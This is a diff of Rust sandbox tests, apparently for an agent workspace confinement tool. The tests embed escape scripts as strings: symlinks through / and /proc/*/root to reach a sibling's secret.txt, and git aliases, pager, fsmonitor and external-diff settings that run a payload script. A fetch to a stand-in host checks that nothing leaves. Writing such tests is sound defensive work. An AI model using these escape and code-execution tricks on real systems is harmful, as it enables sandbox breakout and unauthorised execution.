@@ -249,7 +249,7 @@ fn s09_links_lead_nowhere() {
     let before = snapshot(&fixture.sibling());
     let script = |root: &str, rounds: u32| {
         format!(
-            "ln -s / r; echo x > \"r{victim}\"; echo x > \"r{sibling}/new\"; cat \"r{victim}\"\n\
+            "ln -s / r; cat \"r{victim}\"; echo x >> \"r{victim}\"; echo x > \"r{sibling}/new\"\n\
              ln -s ../sibling s; echo x > s/new; cat s/secret.txt\n\
              ln -s /proc/self/root{sibling} m; echo x > m/new; cat m/secret.txt\n\
              for p in /proc/1/root /proc/self/root /proc/self/cwd/.. /proc/1/cwd/..; do\n\
@@ -336,7 +336,7 @@ fn s16_a_poisoned_environment_stays_inside() {
         .collect();
     let poison = format!(
         "{exports}git config alias.st '!sh {p}'; git config core.pager 'sh {p}'; git config core.fsmonitor 'sh {p}'\n\
-         git log; git diff HEAD~0 --ext-diff; git fetch ssh://sink.test/x; git st; bash -c true; echo finished",
+         git log; echo x >> README.md; git diff; git fetch ssh://sink.test/x; git st; bash -c true; echo finished",
         p = payload.display()
     );
     let outcome = world.job().flags(["--workspace", "review"]).sh(&poison);
@@ -351,7 +351,7 @@ fn s16_a_poisoned_environment_stays_inside() {
     assert!(!mark.exists(), "the agent's configuration was run outside");
     sink.assert_untouched("S16");
     let control = world.fixture.unprotected(&format!(
-        "export GIT_PAGER='sh {}'\ngit -p log",
+        "export GIT_EXTERNAL_DIFF='sh {}'\necho x >> README.md; git diff",
         payload.display()
     ));
     assert!(
